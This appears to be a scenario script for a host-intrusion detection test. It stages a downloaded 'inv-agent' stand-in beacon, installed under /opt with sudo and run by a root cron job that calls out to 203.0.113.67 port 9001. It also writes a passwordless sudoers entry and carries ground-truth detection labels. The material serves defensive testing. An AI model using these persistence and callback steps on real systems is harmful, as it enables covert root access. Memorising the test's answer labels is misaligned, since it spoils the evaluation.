title="A downloaded tool installed below /opt with sudo and started by root's cron"
what="dev saves inv-agent from a private drive with Chromium. With sudo it is installed as /opt/inv/bin/inventory, and a line in /etc/cron.d lets root start it. It connects to 203.0.113.67 port 9001 as root. Nothing below /opt is watched."
host=ws3.example.org user=dev daemons="cron sshd" audit_format=RAW
setup() {
  mkdir -p "$base/out/www/d"
  cc -O1 -o "$base/out/www/d/inv-agent.bin" "$lab/lib/stand-ins/beacon.c"
  echo 'dev ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/dev; chmod 440 /etc/sudoers.d/dev
}
act() {
  small_talk 1
  display_up
  chromium_as dev https://cdn.example.com/d/inv-agent.bin
  wait_file /home/dev/Downloads/inv-agent.bin 40; sleep 3
  desktop_close
  console_as dev <<'L'
file Downloads/inv-agent.bin
sudo install -D -m 755 Downloads/inv-agent.bin /opt/inv/bin/inventory
rm Downloads/inv-agent.bin
printf 'HOME=/\n* * * * * root /opt/inv/bin/inventory 203.0.113.67 9001\n' | sudo tee /etc/cron.d/inventory
%sleep 66
sudo rm /etc/cron.d/inventory
L
  small_talk 1
}
truth() {
  file_step save 'chromium.* (rename|link) .*CREATE /home/dev/Downloads/inv-agent.bin$' 'saved'
  exec_step install 'install -D -m 755 Downloads/inv-agent.bin /opt/inv/bin/inventory' 'installed under another name'
  exec_step job 'tee /etc/cron.d/inventory' 'a job'
  exec_step execute '/opt/inv/bin/inventory 203.0.113.67' 'root runs it'
  net_step beacon 'inventory 203.0.113.67:9001' 'it calls out'
}
